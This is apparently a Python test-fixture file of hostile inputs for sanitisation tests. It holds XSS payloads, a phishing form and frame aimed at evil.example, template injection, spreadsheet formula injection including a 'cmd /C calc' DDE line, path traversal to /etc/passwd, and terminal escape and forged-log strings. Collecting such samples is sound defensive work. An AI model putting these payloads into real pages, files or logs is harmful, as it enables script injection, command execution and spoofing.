"""What others could write where only text is expected."""

MARKDOWN = {
    "script element": "<script>alert(1)</script>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "svg with handler": "<svg onload=alert(1)>",
    "frame": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "style element": "<style>body{display:none}</style>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example">',
    "javascript link": "[a](javascript:alert(1))",
    "javascript link in capitals and entities": "[a](JaVaScRiPt&colon;alert(1))",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript autolink": "<vbscript:msgbox(1)>",
    "attribute break-out in a title": '[a](https://x.example "\\" onmouseover=alert(1) x=\\"")',
    "html in a code fence's language": '```"><script>alert(1)</script>\ncode\n```',
}
TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "template": "{{ 7 * 7 }}{% raw %}",
    "console markup": "[bold red]APPROVED[/] [link=https://evil.example]x[/link]",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example";"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1;1)",
    "tab": "\t=1+1",
}
PATHS = {
    "parent": "../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "windows": "..\\..\\evil",
    "percent": "%2e%2e%2fevil",
}
TERMINAL = {
    "title": "\x1b]0;root shell\x07lead",
    "colour": "\x1b[31mAPPROVED\x1b[0m",
    "c1": "\x9b31mlead",
    "line": "first\r\n2026-11-24T00:00:00Z ERROR forged",
    "direction": "\u202elead\u2066",
}
